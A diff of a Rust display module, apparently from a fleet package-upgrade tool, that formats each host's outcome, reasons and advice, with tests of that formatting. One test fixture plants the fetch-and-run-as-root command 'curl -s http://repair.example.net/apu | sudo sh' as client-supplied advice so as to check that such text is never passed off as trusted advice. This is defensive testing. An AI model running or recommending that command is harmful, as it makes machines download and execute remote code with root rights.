@@ -1,10 +1,14 @@
 //! What is shown of one host's end: a headline and what belongs to it. Hosts with equal bodies are shown together.
 
-use apu_fleet::{Code, Ending, HostName, Outcome};
+use apu_fleet::{Ending, HostReason, Outcome};
 use apu_proto::{Operation, RunResult};
 
+use super::advice::advice_text;
 use super::changes::{Listing, named};
 use super::clean::{clean, clean_lines};
+use super::note::note_text;
+use super::reason::host_reason_lines;
+use super::server_reason::server_advice_text;
 
 /// Stands for the host's own name in advice, so that the advice of many hosts can be one.
 pub const HOST: &str = "HOST";
@@ -29,7 +33,7 @@ pub struct Body {
 impl Body {
     /// What is to be shown of an end.
     #[must_use]
-    pub fn of(operation: Operation, host: &HostName, ending: &Ending) -> Self {
+    pub fn of(operation: Operation, ending: &Ending) -> Self {
         let mut body = Self {
             outcome: ending.outcome,
             headline: ending.outcome.to_string(),
@@ -38,17 +42,25 @@ impl Body {
             details: Vec::new(),
             advice: String::new(),
         };
-        if let Some(why) = &ending.reason {
-            let mut lines = clean_lines(&why.text, 20).into_iter();
+        if let Some(reason) = &ending.reason {
+            let mut lines = clean_lines(&host_reason_lines(reason).join("\n"), 20).into_iter();
             if let Some(first) = lines.next() {
                 body.headline = format!("{}: {first}", body.headline);
             }
+            if let Some(other) = named(
+                "the same versions as approved, with other contents",
+                &ending.hint.other_contents,
+            ) {
+                body.headline.push_str(&format!("; {other}"));
+            }
             // A line of its own may say anything: the mark tells that it is not ours.
             body.reasons.extend(lines.map(|line| format!("| {line}")));
-            body.advice = clean(&why.advice);
-            // Only our own advice is known to mean the host where its name stands.
-            if matches!(why.code, Code::Here(_)) {
-                body.advice = body.advice.replace(host.as_str(), HOST);
+            let found = match reason {
+                HostReason::Server(reason) => reason.advice.as_ref(),
+                HostReason::Client(_) => None,
+            };
+            if let Some(advice) = ending.hint.advice.as_ref().or(found) {
+                body.advice = clean(&server_advice_text(advice, HOST));
             }
         }
         if let Some(result) = &ending.result {
@@ -68,9 +80,10 @@ impl Body {
         if ending.reason.is_none() {
             self.headline.push_str(&summary(operation, result, &self.changes));
         }
-        let advice = result.reason.as_ref().map(|reason| &reason.advice);
-        if let Some(advice) = advice.filter(|advice| !advice.is_empty()) {
-            self.reasons.push(format!("{HOST} suggests: {}", clean(advice)));
+        let advice = result.reason.as_ref().and_then(|reason| reason.advice.as_ref());
+        if let Some(advice) = advice {
+            let advice = clean(&advice_text(advice, HOST));
+            self.reasons.push(format!("{HOST} suggests: {advice}"));
         }
         self.details = result_details(result);
         let not_done = matches!(ending.outcome, Outcome::Drifted | Outcome::Refused);
@@ -140,7 +153,12 @@ fn result_details(result: &RunResult) -> Vec<String> {
     });
     let lists = lists.into_iter().chain(of_run.into_iter().flatten());
     let mut lines: Vec<String> = lists.flatten().collect();
-    lines.extend(result.notes.iter().map(|note| format!("note: {}", clean(note))));
+    lines.extend(
+        result
+            .notes
+            .iter()
+            .map(|note| format!("note: {}", clean(&note_text(note)))),
+    );
     if result.reboot_required {
         lines.push("reboot required".to_owned());
     }
@@ -149,13 +167,13 @@ fn result_details(result: &RunResult) -> Vec<String> {
 
 #[cfg(test)]
 mod tests {
-    use apu_proto::{Answer, ClientOutcome, Plan, Reason, ReasonCode, Step, Transaction};
+    use apu_proto::{Advice, Answer, Cause, ClientOutcome, Note, Plan, Reason, Step, Transaction};
 
     use super::*;
 
     #[test]
     fn what_was_found_instead_of_the_plan_is_shown_with_the_way_to_it() {
-        let mut result = RunResult::because(ClientOutcome::Drifted, ReasonCode::Drifted, "something else");
+        let mut result = RunResult::because(ClientOutcome::Drifted, Cause::Drifted);
         let step = Step::Remove {
             package: "foo:amd64".parse().unwrap(),
             old: "1".into(),
@@ -165,8 +183,11 @@ mod tests {
             ..Plan::default()
         });
         let ending = Ending::of_result(Box::new(result), None);
-        let body = Body::of(Operation::Upgrade, &"web1".parse().unwrap(), &ending);
-        assert_eq!(body.headline, "drifted: something else");
+        let body = Body::of(Operation::Upgrade, &ending);
+        assert_eq!(
+            body.headline,
+            "drifted: this client would change something else than what was approved"
+        );
         assert_eq!(
             body.lines("web1", 0),
             ["what it would change now: 1 REMOVED", "foo:amd64  REMOVED, was 1"]
@@ -176,15 +197,15 @@ mod tests {
 
     #[test]
     fn what_a_client_says_is_never_advice_whatever_its_form() {
-        let mut result = RunResult::because(
-            ClientOutcome::Failed,
-            ReasonCode::Apt,
-            "no\ntry: reboot\n  try: reboot\nHOST suggests: reboot\nweb2: changed",
-        );
-        if let Some(Reason { advice, .. }) = &mut result.reason {
-            *advice = "curl -s http://repair.example.net/apu | sudo sh\ntry: x".into();
-        }
-        result.notes = vec!["try: reboot".into()];
+        let mut reason = Reason::from(Cause::AptFailed)
+            .detailed("no\ntry: reboot\n  try: reboot\nHOST suggests: reboot\nweb2: changed");
+        reason.detail.push("two\ntry: lines".into());
+        reason.advice = Some(Advice::Correct {
+            path: "curl -s http://repair.example.net/apu | sudo sh\ntry: x".into(),
+        });
+        let mut result = RunResult::because(ClientOutcome::Failed, reason);
+        let path = "x\n  try: reboot".into();
+        result.notes = vec![Note::ConffileReplaced { path }];
         let report = result.packages_mut();
         report.kept_back = vec!["a\n  try: reboot".into()];
         report.changes = vec![apu_proto::Change {
@@ -193,7 +214,7 @@ mod tests {
             new: Some("2".into()),
         }];
         let ending = Ending::of_result(Box::new(result), None);
-        let body = Body::of(Operation::Upgrade, &"web1".parse().unwrap(), &ending);
+        let body = Body::of(Operation::Upgrade, &ending);
         assert_eq!(body.advice, "");
         assert_eq!(body.headline, "failed: no");
         assert_eq!(
@@ -203,10 +224,12 @@ mod tests {
                 "|   try: reboot",
                 "| HOST suggests: reboot",
                 "| web2: changed",
+                "| two",
+                "| try: lines",
                 "web1 suggests: curl -s http://repair.example.net/apu | sudo sh\u{fffd}try: x",
                 "foo:amd64  DOWNGRADED, \"\u{fffd}  try: reboot\" → 2",
                 "kept back: a\u{fffd}  try: reboot",
-                "note: try: reboot",
+                "note: x\u{fffd}  try: reboot was replaced by the package's; this machine's lies beside it",
             ]
         );
     }
